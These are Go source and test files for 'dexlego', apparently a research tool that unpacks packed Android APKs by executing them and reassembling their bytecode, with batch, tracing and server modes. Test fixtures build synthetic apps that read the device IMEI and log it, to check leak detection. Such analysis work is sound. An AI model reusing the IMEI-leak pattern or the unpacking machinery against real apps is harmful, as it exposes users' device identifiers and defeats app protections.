	if dropped > 0 {
		return fmt.Errorf("trace is incomplete: %d events dropped across jobs", dropped)
	}
	if metricsOut != "" {
		data, err := batch.Report.JSON()
		if err != nil {
			return err
		}
		if err := os.WriteFile(metricsOut, data, 0o644); err != nil {
			return err
		}
	}
	if failed > 0 {
		return fmt.Errorf("%d of %d jobs failed", failed, len(jobs))
	}
	return nil
}

// writeMetrics writes a one-app report for single mode, reusing the batch
// schema so tooling can parse both.
func writeMetrics(path, apkPath string, res *root.Result) error {
	m := *res.Metrics
	if m.Name == "" {
		m.Name = apkPath
	}
	report := pipeline.BuildReport(1, m.Wall(), []pipeline.AppMetrics{m})
	data, err := report.JSON()
	if err != nil {
		return err
	}
	return os.WriteFile(path, data, 0o644)
}

// flagWasSet reports whether the named flag appeared explicitly on the
// command line, distinguishing a default from a deliberate choice.
func flagWasSet(fs *flag.FlagSet, name string) bool {
	set := false
	fs.Visit(func(f *flag.Flag) {
		if f.Name == name {
			set = true
		}
	})
	return set
}

// validateFlags rejects contradictory invocations before any work runs.
// -jobs defaults to 0 (= GOMAXPROCS) when unset, but an explicit -jobs
// below 1 is a typo'd pool size, not a request for the default. -serve is
// a long-running mode, so combining it with any one-shot input or output
// flag silently ignoring one of them would be worse than an error.
func validateFlags(fs *flag.FlagSet, serve bool, jobs, workers, queueDepth int, slo time.Duration, fleetReplication int) error {
	explicit := make(map[string]bool)
	fs.Visit(func(f *flag.Flag) { explicit[f.Name] = true })
	for _, name := range []string{"fleet-peers", "fleet-self", "fleet-replication"} {
		if explicit[name] && !serve {
			return fmt.Errorf("-%s configures fleet mode and requires -serve", name)
		}
	}
	if (explicit["fleet-self"] || explicit["fleet-replication"]) && !explicit["fleet-peers"] {
		return fmt.Errorf("fleet flags do nothing without -fleet-peers")
	}
	if explicit["fleet-replication"] && fleetReplication < 1 {
		return fmt.Errorf("-fleet-replication must be at least 1 (got %d)", fleetReplication)
	}
	if explicit["jobs"] && jobs < 1 {
		return fmt.Errorf("-jobs must be at least 1 (got %d); omit it for GOMAXPROCS", jobs)
	}
	if explicit["workers"] && workers < 1 {
		return fmt.Errorf("-workers must be at least 1 (got %d); omit it for GOMAXPROCS", workers)
	}
	if slo < 0 {
		return fmt.Errorf("-slo must be non-negative (got %v)", slo)
	}
	if explicit["trace-job"] && !explicit["trace-report"] {
		return fmt.Errorf("-trace-job filters -trace-report output and does nothing without it")
	}
	if !serve {
		return nil
	}
	if queueDepth < 1 {
		return fmt.Errorf("-queue-depth must be at least 1 (got %d)", queueDepth)
	}
	oneShot := []string{"apk", "sample", "batch", "out", "collect", "metrics-out", "trace-report", "trace-job"}
	for _, name := range oneShot {
		if explicit[name] {
			return fmt.Errorf("-serve runs a long-lived service and cannot be combined with -%s; drop one of them", name)
		}
	}
	return nil
}

// parseByteSize parses a human byte size: a non-negative integer with an
// optional binary-scale suffix (K/M/G, KB/MB/GB, KiB/MiB/GiB — all 1024
// multiples, case-insensitive). "" parses to 0, the unlimited default.
func parseByteSize(s string) (int64, error) {
	s = strings.TrimSpace(s)
	if s == "" {
		return 0, nil
	}
	upper := strings.ToUpper(s)
	shift := 0
	for _, suf := range []struct {
		text  string
		shift int
	}{
		{"KIB", 10}, {"MIB", 20}, {"GIB", 30},
		{"KB", 10}, {"MB", 20}, {"GB", 30},
		{"K", 10}, {"M", 20}, {"G", 30},
	} {
		if strings.HasSuffix(upper, suf.text) {
			upper = strings.TrimSuffix(upper, suf.text)
			shift = suf.shift
			break
		}
	}
	n, err := strconv.ParseInt(strings.TrimSpace(upper), 10, 64)
	if err != nil || n < 0 {
		return 0, fmt.Errorf("bad byte size %q (want e.g. 512MiB, 2G, 1048576)", s)
	}
	if shift > 0 && n > (1<<62)>>shift {
		return 0, fmt.Errorf("byte size %q overflows", s)
	}
	return n << shift, nil
}

// splitPeers parses the -fleet-peers list, dropping empty segments so a
// trailing comma is harmless.
func splitPeers(raw string) []string {
	if raw == "" {
		return nil
	}
	var out []string
	for _, p := range strings.Split(raw, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, strings.TrimRight(p, "/"))
		}
	}
	return out
}

func readAPK(path string) (*apk.APK, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	return apk.Read(data)
}
