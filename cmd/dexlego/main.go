// Command dexlego reveals an APK: it executes the application under
// just-in-time collection in the runtime substrate and writes back an APK
// whose classes.dex is the reassembled, analyzable bytecode.
//
// Usage:
//
//	dexlego -apk app.apk -out revealed.apk [-collect dir] [-force] [-fuzz]
//
// The shell native libraries of all five supported packers are installed,
// so packed APKs produced by cmd/packbench unpack transparently.
package main

import (
	"flag"
	"fmt"
	"os"

	root "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/packer"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "dexlego:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("dexlego", flag.ContinueOnError)
	apkPath := fs.String("apk", "", "input APK path")
	outPath := fs.String("out", "", "output (revealed) APK path")
	collectDir := fs.String("collect", "", "directory for the five collection files")
	force := fs.Bool("force", false, "enable the force-execution coverage module")
	fuzz := fs.Bool("fuzz", false, "run the input-generation fuzzer during collection")
	seed := fs.Int64("seed", 1, "fuzzer seed")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *apkPath == "" || *outPath == "" {
		fs.Usage()
		return fmt.Errorf("-apk and -out are required")
	}
	data, err := os.ReadFile(*apkPath)
	if err != nil {
		return err
	}
	pkg, err := apk.Read(data)
	if err != nil {
		return err
	}
	res, err := root.Reveal(pkg, root.Options{
		InstallNatives: func(rt *art.Runtime) {
			for _, pk := range packer.All() {
				pk.InstallNatives(rt)
			}
		},
		Fuzz:           *fuzz,
		FuzzSeed:       *seed,
		ForceExecution: *force,
		CollectDir:     *collectDir,
	})
	if err != nil {
		return err
	}
	out, err := res.Revealed.Bytes()
	if err != nil {
		return err
	}
	if err := os.WriteFile(*outPath, out, 0o644); err != nil {
		return err
	}
	fmt.Printf("revealed %s -> %s\n", *apkPath, *outPath)
	fmt.Printf("  classes: %d  methods: %d (executed %d, stubs %d)\n",
		res.Stats.Classes, res.Stats.Methods, res.Stats.ExecutedMethods, res.Stats.Stubs)
	fmt.Printf("  self-modification layers merged: %d  variants: %d  reflection rewrites: %d\n",
		res.Stats.Divergences, res.Stats.Variants, res.Stats.ReflectionRewrites)
	if res.Coverage != nil {
		fmt.Printf("  coverage: instructions %s, branches %s\n",
			res.Coverage.Instruction, res.Coverage.Branch)
	}
	for _, ev := range res.Sinks {
		if ev.Leaky() {
			fmt.Printf("  runtime leak: %s via %s at %s\n", ev.Taint, ev.Sink, ev.Caller)
		}
	}
	return nil
}
