package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"dexlego/internal/dexgen"
	"dexlego/internal/obs"
	"dexlego/internal/packer"
	"dexlego/internal/pipeline"
)

func TestRunRevealsPackedAPK(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lcli/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("cli", 0, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("cli", "1.0", "Lcli/Main;")
	if err != nil {
		t.Fatal(err)
	}
	pk, err := packer.ByName("360")
	if err != nil {
		t.Fatal(err)
	}
	packed, err := pk.Pack(pkg)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "packed.apk")
	out := filepath.Join(dir, "revealed.apk")
	data, err := packed.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(in, data, 0o644); err != nil {
		t.Fatal(err)
	}
	collectDir := filepath.Join(dir, "collect")
	if err := run([]string{"-apk", in, "-out", out, "-collect", collectDir}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(out); err != nil {
		t.Errorf("revealed apk missing: %v", err)
	}
	entries, err := os.ReadDir(collectDir)
	if err != nil || len(entries) != 5 {
		t.Errorf("collection files = %d (%v), want 5", len(entries), err)
	}
	if err := run([]string{"-apk", in}); err == nil {
		t.Error("missing -out must fail")
	}
}

func buildPackedAPK(t *testing.T, pkg, desc string) []byte {
	t.Helper()
	p := dexgen.New()
	cls := p.Class(desc, "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak(pkg, 0, 2)
		a.ReturnVoid()
	})
	app, err := p.BuildAPK(pkg, "1.0", desc)
	if err != nil {
		t.Fatal(err)
	}
	pk, err := packer.ByName("360")
	if err != nil {
		t.Fatal(err)
	}
	packed, err := pk.Pack(app)
	if err != nil {
		t.Fatal(err)
	}
	data, err := packed.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestRunBatchRevealsCorpus(t *testing.T) {
	dir := t.TempDir()
	var ins []string
	for i, name := range []string{"alpha", "beta", "gamma"} {
		in := filepath.Join(dir, name+".apk")
		desc := "Lbatch/Main" + string(rune('A'+i)) + ";"
		if err := os.WriteFile(in, buildPackedAPK(t, name, desc), 0o644); err != nil {
			t.Fatal(err)
		}
		ins = append(ins, in)
	}
	outDir := filepath.Join(dir, "revealed")
	metrics := filepath.Join(dir, "metrics.json")
	args := append([]string{
		"-batch", "-jobs", "2", "-out", outDir, "-metrics-out", metrics}, ins...)
	if err := run(args); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"alpha", "beta", "gamma"} {
		out := filepath.Join(outDir, name+".revealed.apk")
		if _, err := os.Stat(out); err != nil {
			t.Errorf("revealed apk missing: %v", err)
		}
	}
	data, err := os.ReadFile(metrics)
	if err != nil {
		t.Fatal(err)
	}
	var report pipeline.Report
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatalf("metrics report does not parse: %v", err)
	}
	if report.Jobs != 3 || report.Failed != 0 {
		t.Errorf("report jobs/failed = %d/%d, want 3/0", report.Jobs, report.Failed)
	}
	if len(report.Apps) != 3 || report.Apps[0].Name != ins[0] {
		t.Errorf("report apps out of order: %+v", report.Apps)
	}
}

// TestRunSampleWithTrace is the quickstart acceptance path: reveal a
// self-modifying droidbench sample built in memory, stream the trace, and
// check the trace validates with at least one span per executed stage and
// at least one tree fork.
func TestRunSampleWithTrace(t *testing.T) {
	dir := t.TempDir()
	out := filepath.Join(dir, "revealed.apk")
	trace := filepath.Join(dir, "trace.jsonl")
	metrics := filepath.Join(dir, "metrics.json")
	err := run([]string{"-sample", "SelfModifying1", "-out", out,
		"-trace-out", trace, "-metrics-out", metrics, "-log-level", "off"})
	if err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(trace)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr, err := obs.ReadTrace(f)
	if err != nil {
		t.Fatalf("trace does not validate: %v", err)
	}
	apps := tr.Apps()
	if len(apps) != 1 || apps[0].App != "SelfModifying1" {
		t.Fatalf("trace apps = %+v, want one SelfModifying1", apps)
	}
	for _, stage := range []string{"collection", "reassembly", "verify"} {
		if apps[0].StageNS[stage] <= 0 {
			t.Errorf("stage %s has no span: %+v", stage, apps[0].StageNS)
		}
	}
	forks := 0
	for _, n := range apps[0].ForksByMethod {
		forks += n
	}
	if forks < 1 {
		t.Error("self-modifying sample produced no tree_fork event")
	}
	// The metrics report embeds the same run's obs snapshot and validates.
	data, err := os.ReadFile(metrics)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := pipeline.DecodeReport(data)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Obs == nil || rep.Obs.EventCount(obs.EventTreeFork) < 1 {
		t.Errorf("report obs snapshot missing forks: %+v", rep.Obs)
	}
	// The trace renders back into a per-app report.
	if err := run([]string{"-trace-report", trace}); err != nil {
		t.Errorf("trace-report failed: %v", err)
	}
	// Unknown samples and corrupt traces fail loudly.
	if err := run([]string{"-sample", "NoSuchSample", "-out", out}); err == nil {
		t.Error("unknown sample must fail")
	}
	bad := filepath.Join(dir, "bad.jsonl")
	if err := os.WriteFile(bad, []byte(`{"ev":"warp"}`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-trace-report", bad}); err == nil {
		t.Error("corrupt trace must be rejected")
	}
	if err := run([]string{"-trace-report"}); err == nil {
		t.Error("trace-report without arguments must fail")
	}
	if err := run([]string{"-log-level", "loud", "-sample", "SelfModifying1", "-out", out}); err == nil {
		t.Error("bad log level must fail")
	}
}

// TestRunBatchWithTrace checks batch tracing: per-job tracers share one
// sink, and the interleaved trace segments back into one app per job.
func TestRunBatchWithTrace(t *testing.T) {
	dir := t.TempDir()
	var ins []string
	for i, name := range []string{"one", "two"} {
		in := filepath.Join(dir, name+".apk")
		desc := "Ltrace/Main" + string(rune('A'+i)) + ";"
		if err := os.WriteFile(in, buildPackedAPK(t, name, desc), 0o644); err != nil {
			t.Fatal(err)
		}
		ins = append(ins, in)
	}
	outDir := filepath.Join(dir, "revealed")
	trace := filepath.Join(dir, "trace.jsonl")
	args := append([]string{
		"-batch", "-jobs", "2", "-out", outDir, "-trace-out", trace, "-log-level", "off"}, ins...)
	if err := run(args); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(trace)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr, err := obs.ReadTrace(f)
	if err != nil {
		t.Fatalf("batch trace does not validate: %v", err)
	}
	apps := tr.Apps()
	if len(apps) != 2 {
		t.Fatalf("trace apps = %d, want 2", len(apps))
	}
	for _, a := range apps {
		if a.MethodsCollected == 0 || a.StageNS["collection"] <= 0 {
			t.Errorf("app %s trace incomplete: %+v", a.App, a)
		}
	}
}

// TestRunFlightRecorderAndTraceJob exercises the incident tooling in one
// pass: a 1ns SLO forces a flight dump for a healthy reveal, the dump
// validates as a trace whose events all carry the job's content-hash
// trace id, and -trace-report -trace-job filters the main trace to it.
func TestRunFlightRecorderAndTraceJob(t *testing.T) {
	dir := t.TempDir()
	out := filepath.Join(dir, "revealed.apk")
	trace := filepath.Join(dir, "trace.jsonl")
	flightDir := filepath.Join(dir, "flight")
	err := run([]string{"-sample", "SelfModifying1", "-out", out,
		"-trace-out", trace, "-flight-dir", flightDir, "-slo", "1ns", "-log-level", "off"})
	if err != nil {
		t.Fatal(err)
	}
	flight := filepath.Join(flightDir, "SelfModifying1.flight.jsonl")
	f, err := os.Open(flight)
	if err != nil {
		t.Fatalf("slo-violating run wrote no flight recording: %v", err)
	}
	ftr, err := obs.ReadTrace(f)
	f.Close()
	if err != nil {
		t.Fatalf("flight recording does not validate: %v", err)
	}
	ids := ftr.TraceIDs()
	if len(ids) != 1 || ids[0] == "" {
		t.Fatalf("flight recording trace ids = %v, want exactly one non-empty id", ids)
	}
	if n := len(ftr.FilterTrace(ids[0]).Events); n != len(ftr.Events) {
		t.Errorf("only %d of %d flight events carry trace id %s", n, len(ftr.Events), ids[0])
	}
	// The main trace filters down to the same job.
	if err := run([]string{"-trace-report", "-trace-job", ids[0], trace}); err != nil {
		t.Errorf("trace-report -trace-job %s failed: %v", ids[0], err)
	}
	// An unknown job id fails and names the ids that are present.
	err = run([]string{"-trace-report", "-trace-job", "feedfacedead", trace})
	if err == nil || !strings.Contains(err.Error(), ids[0]) {
		t.Errorf("unknown -trace-job error = %v, want list containing %s", err, ids[0])
	}
	// A healthy run under a generous SLO leaves no recording behind.
	calmDir := filepath.Join(dir, "calm")
	err = run([]string{"-sample", "SelfModifying1", "-out", out,
		"-flight-dir", calmDir, "-slo", "10m", "-log-level", "off"})
	if err != nil {
		t.Fatal(err)
	}
	if entries, _ := os.ReadDir(calmDir); len(entries) != 0 {
		t.Errorf("healthy run dumped %d flight recordings, want 0", len(entries))
	}
}

// TestRunBatchFlightDumps checks the batch path arms one ring per job and
// dumps each SLO-violating job separately.
func TestRunBatchFlightDumps(t *testing.T) {
	dir := t.TempDir()
	var ins []string
	for i, name := range []string{"fast", "slow"} {
		in := filepath.Join(dir, name+".apk")
		desc := "Lflight/Main" + string(rune('A'+i)) + ";"
		if err := os.WriteFile(in, buildPackedAPK(t, name, desc), 0o644); err != nil {
			t.Fatal(err)
		}
		ins = append(ins, in)
	}
	outDir := filepath.Join(dir, "revealed")
	flightDir := filepath.Join(dir, "flight")
	args := append([]string{"-batch", "-out", outDir,
		"-flight-dir", flightDir, "-slo", "1ns", "-log-level", "off"}, ins...)
	if err := run(args); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"fast", "slow"} {
		flight := filepath.Join(flightDir, name+".flight.jsonl")
		f, err := os.Open(flight)
		if err != nil {
			t.Errorf("job %s has no flight recording: %v", name, err)
			continue
		}
		ftr, err := obs.ReadTrace(f)
		f.Close()
		if err != nil {
			t.Errorf("job %s flight recording invalid: %v", name, err)
			continue
		}
		if ids := ftr.TraceIDs(); len(ids) != 1 {
			t.Errorf("job %s flight recording has trace ids %v, want exactly one", name, ids)
		}
	}
}

func TestRunBatchIsolatesBadAPK(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "good.apk")
	if err := os.WriteFile(good, buildPackedAPK(t, "good", "Lbatch/Good;"), 0o644); err != nil {
		t.Fatal(err)
	}
	bad := filepath.Join(dir, "bad.apk")
	if err := os.WriteFile(bad, []byte("not an apk"), 0o644); err != nil {
		t.Fatal(err)
	}
	outDir := filepath.Join(dir, "revealed")
	// A file that is not even a zip fails upfront, before the batch runs.
	if err := run([]string{"-batch", "-out", outDir, good, bad}); err == nil {
		t.Fatal("corrupt input must fail")
	}
	// Batch mode without inputs or without -out must fail.
	if err := run([]string{"-batch", "-out", outDir}); err == nil {
		t.Error("batch without inputs must fail")
	}
	if err := run([]string{"-batch", good}); err == nil {
		t.Error("batch without -out must fail")
	}
}

func TestParseByteSize(t *testing.T) {
	cases := []struct {
		in   string
		want int64
		ok   bool
	}{
		{"", 0, true},
		{"0", 0, true},
		{"1048576", 1 << 20, true},
		{"512K", 512 << 10, true},
		{"512KB", 512 << 10, true},
		{"512KiB", 512 << 10, true},
		{"512MiB", 512 << 20, true},
		{"2G", 2 << 30, true},
		{"2gib", 2 << 30, true},
		{" 64 MiB ", 64 << 20, true},
		{"-1", 0, false},
		{"12x", 0, false},
		{"MiB", 0, false},
		{"1.5G", 0, false},
		{"9999999999G", 0, false},
	}
	for _, tc := range cases {
		got, err := parseByteSize(tc.in)
		if (err == nil) != tc.ok {
			t.Errorf("parseByteSize(%q) error = %v, want ok=%t", tc.in, err, tc.ok)
			continue
		}
		if err == nil && got != tc.want {
			t.Errorf("parseByteSize(%q) = %d, want %d", tc.in, got, tc.want)
		}
	}
}

func TestBadMemBudgetRejected(t *testing.T) {
	err := run([]string{"-mem-budget", "lots", "-sample", "SelfModifying1", "-out", "x.apk"})
	if err == nil || !strings.Contains(err.Error(), "-mem-budget") {
		t.Fatalf("bad -mem-budget not rejected: %v", err)
	}
}

// TestRunSampleWithMemBudget runs a one-shot reveal through the spill tier
// and streaming writer; the output must be a valid revealed APK exactly as
// without the flag.
func TestRunSampleWithMemBudget(t *testing.T) {
	dir := t.TempDir()
	plain := filepath.Join(dir, "plain.apk")
	budgeted := filepath.Join(dir, "budgeted.apk")
	if err := run([]string{"-sample", "SelfModifying1", "-out", plain}); err != nil {
		t.Fatalf("plain run: %v", err)
	}
	if err := run([]string{"-sample", "SelfModifying1", "-out", budgeted, "-mem-budget", "64MiB"}); err != nil {
		t.Fatalf("budgeted run: %v", err)
	}
	a, err := os.ReadFile(plain)
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(budgeted)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a, b) {
		t.Errorf("budgeted reveal differs from plain (%d vs %d bytes)", len(a), len(b))
	}
}
