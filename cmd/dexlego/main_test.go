package main

import (
	"os"
	"path/filepath"
	"testing"

	"dexlego/internal/dexgen"
	"dexlego/internal/packer"
)

func TestRunRevealsPackedAPK(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lcli/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("cli", 0, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("cli", "1.0", "Lcli/Main;")
	if err != nil {
		t.Fatal(err)
	}
	pk, err := packer.ByName("360")
	if err != nil {
		t.Fatal(err)
	}
	packed, err := pk.Pack(pkg)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "packed.apk")
	out := filepath.Join(dir, "revealed.apk")
	data, err := packed.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(in, data, 0o644); err != nil {
		t.Fatal(err)
	}
	collectDir := filepath.Join(dir, "collect")
	if err := run([]string{"-apk", in, "-out", out, "-collect", collectDir}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(out); err != nil {
		t.Errorf("revealed apk missing: %v", err)
	}
	entries, err := os.ReadDir(collectDir)
	if err != nil || len(entries) != 5 {
		t.Errorf("collection files = %d (%v), want 5", len(entries), err)
	}
	if err := run([]string{"-apk", in}); err == nil {
		t.Error("missing -out must fail")
	}
}
