package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"dexlego/internal/dexgen"
	"dexlego/internal/packer"
	"dexlego/internal/pipeline"
)

func TestRunRevealsPackedAPK(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lcli/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("cli", 0, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("cli", "1.0", "Lcli/Main;")
	if err != nil {
		t.Fatal(err)
	}
	pk, err := packer.ByName("360")
	if err != nil {
		t.Fatal(err)
	}
	packed, err := pk.Pack(pkg)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "packed.apk")
	out := filepath.Join(dir, "revealed.apk")
	data, err := packed.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(in, data, 0o644); err != nil {
		t.Fatal(err)
	}
	collectDir := filepath.Join(dir, "collect")
	if err := run([]string{"-apk", in, "-out", out, "-collect", collectDir}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(out); err != nil {
		t.Errorf("revealed apk missing: %v", err)
	}
	entries, err := os.ReadDir(collectDir)
	if err != nil || len(entries) != 5 {
		t.Errorf("collection files = %d (%v), want 5", len(entries), err)
	}
	if err := run([]string{"-apk", in}); err == nil {
		t.Error("missing -out must fail")
	}
}

func buildPackedAPK(t *testing.T, pkg, desc string) []byte {
	t.Helper()
	p := dexgen.New()
	cls := p.Class(desc, "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak(pkg, 0, 2)
		a.ReturnVoid()
	})
	app, err := p.BuildAPK(pkg, "1.0", desc)
	if err != nil {
		t.Fatal(err)
	}
	pk, err := packer.ByName("360")
	if err != nil {
		t.Fatal(err)
	}
	packed, err := pk.Pack(app)
	if err != nil {
		t.Fatal(err)
	}
	data, err := packed.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestRunBatchRevealsCorpus(t *testing.T) {
	dir := t.TempDir()
	var ins []string
	for i, name := range []string{"alpha", "beta", "gamma"} {
		in := filepath.Join(dir, name+".apk")
		desc := "Lbatch/Main" + string(rune('A'+i)) + ";"
		if err := os.WriteFile(in, buildPackedAPK(t, name, desc), 0o644); err != nil {
			t.Fatal(err)
		}
		ins = append(ins, in)
	}
	outDir := filepath.Join(dir, "revealed")
	metrics := filepath.Join(dir, "metrics.json")
	args := append([]string{
		"-batch", "-jobs", "2", "-out", outDir, "-metrics-out", metrics}, ins...)
	if err := run(args); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"alpha", "beta", "gamma"} {
		out := filepath.Join(outDir, name+".revealed.apk")
		if _, err := os.Stat(out); err != nil {
			t.Errorf("revealed apk missing: %v", err)
		}
	}
	data, err := os.ReadFile(metrics)
	if err != nil {
		t.Fatal(err)
	}
	var report pipeline.Report
	if err := json.Unmarshal(data, &report); err != nil {
		t.Fatalf("metrics report does not parse: %v", err)
	}
	if report.Jobs != 3 || report.Failed != 0 {
		t.Errorf("report jobs/failed = %d/%d, want 3/0", report.Jobs, report.Failed)
	}
	if len(report.Apps) != 3 || report.Apps[0].Name != ins[0] {
		t.Errorf("report apps out of order: %+v", report.Apps)
	}
}

func TestRunBatchIsolatesBadAPK(t *testing.T) {
	dir := t.TempDir()
	good := filepath.Join(dir, "good.apk")
	if err := os.WriteFile(good, buildPackedAPK(t, "good", "Lbatch/Good;"), 0o644); err != nil {
		t.Fatal(err)
	}
	bad := filepath.Join(dir, "bad.apk")
	if err := os.WriteFile(bad, []byte("not an apk"), 0o644); err != nil {
		t.Fatal(err)
	}
	outDir := filepath.Join(dir, "revealed")
	// A file that is not even a zip fails upfront, before the batch runs.
	if err := run([]string{"-batch", "-out", outDir, good, bad}); err == nil {
		t.Fatal("corrupt input must fail")
	}
	// Batch mode without inputs or without -out must fail.
	if err := run([]string{"-batch", "-out", outDir}); err == nil {
		t.Error("batch without inputs must fail")
	}
	if err := run([]string{"-batch", good}); err == nil {
		t.Error("batch without -out must fail")
	}
}
