package main

import (
	"encoding/json"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"dexlego/internal/server"
)

func TestValidateFlagRejections(t *testing.T) {
	cases := []struct {
		name string
		args []string
		want string // substring of the expected error
	}{
		{"jobs zero", []string{"-jobs", "0", "-sample", "SelfModifying1", "-out", "x.apk"}, "-jobs must be at least 1"},
		{"jobs negative", []string{"-jobs", "-3", "-batch", "-out", "d", "a.apk"}, "-jobs must be at least 1"},
		{"serve jobs zero", []string{"-serve", "-jobs", "0"}, "-jobs must be at least 1"},
		{"serve+batch", []string{"-serve", "-batch", "a.apk"}, "cannot be combined with -batch"},
		{"serve+sample", []string{"-serve", "-sample", "SelfModifying1"}, "cannot be combined with -sample"},
		{"serve+apk", []string{"-serve", "-apk", "a.apk"}, "cannot be combined with -apk"},
		{"serve+out", []string{"-serve", "-out", "x.apk"}, "cannot be combined with -out"},
		{"serve+collect", []string{"-serve", "-collect", "dir"}, "cannot be combined with -collect"},
		{"serve+metrics-out", []string{"-serve", "-metrics-out", "m.json"}, "cannot be combined with -metrics-out"},
		{"serve+trace-report", []string{"-serve", "-trace-report", "t.jsonl"}, "cannot be combined with -trace-report"},
		{"serve+trace-job", []string{"-serve", "-trace-job", "abc123"}, "does nothing without"},
		{"serve+trace-job+report", []string{"-serve", "-trace-report", "-trace-job", "abc123"}, "cannot be combined with"},
		{"serve queue zero", []string{"-serve", "-queue-depth", "0"}, "-queue-depth must be at least 1"},
		{"negative slo", []string{"-slo", "-5s", "-sample", "SelfModifying1", "-out", "x.apk"}, "-slo must be non-negative"},
		{"fleet without serve", []string{"-fleet-peers", "http://n2:8080", "-sample", "SelfModifying1", "-out", "x.apk"}, "requires -serve"},
		{"fleet-self alone", []string{"-serve", "-fleet-self", "http://me:8080"}, "do nothing without -fleet-peers"},
		{"fleet-replication alone", []string{"-serve", "-fleet-replication", "3"}, "do nothing without -fleet-peers"},
		{"fleet-replication zero", []string{"-serve", "-fleet-peers", "http://n2:8080", "-fleet-replication", "0"}, "-fleet-replication must be at least 1"},
		{"trace-job alone", []string{"-trace-job", "abc123", "-sample", "SelfModifying1", "-out", "x.apk"}, "does nothing without"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := run(tc.args)
			if err == nil {
				t.Fatalf("run(%v) succeeded, want error containing %q", tc.args, tc.want)
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("run(%v) error = %q, want substring %q", tc.args, err, tc.want)
			}
		})
	}
	// The unset default (-jobs absent, internal value 0) still means
	// GOMAXPROCS and must not trip the explicit-flag validation.
	if err := run([]string{"-batch", "-out", t.TempDir()}); err == nil ||
		strings.Contains(err.Error(), "-jobs") {
		t.Errorf("default -jobs wrongly rejected: %v", err)
	}
}

// TestRunServeEndToEnd boots the real service through run(), reveals a
// sample twice over HTTP, checks the second request is a cache hit, then
// stops the server via the test hook and requires a clean drain.
func TestRunServeEndToEnd(t *testing.T) {
	lnc := make(chan net.Listener, 1)
	stop := make(chan struct{})
	serveHooks.listener = func(ln net.Listener) { lnc <- ln }
	serveHooks.stop = stop
	defer func() {
		serveHooks.listener = nil
		serveHooks.stop = nil
	}()
	errc := make(chan error, 1)
	go func() {
		errc <- run([]string{"-serve", "-addr", "127.0.0.1:0",
			"-store-dir", t.TempDir(), "-jobs", "2", "-log-level", "off"})
	}()
	var base string
	select {
	case ln := <-lnc:
		base = "http://" + ln.Addr().String()
	case err := <-errc:
		t.Fatalf("serve exited before binding: %v", err)
	case <-time.After(10 * time.Second):
		t.Fatal("serve never bound a listener")
	}
	post := func() server.JobStatus {
		t.Helper()
		resp, err := http.Post(base+"/v1/reveal?sample=SelfModifying1&wait=1", "", nil)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
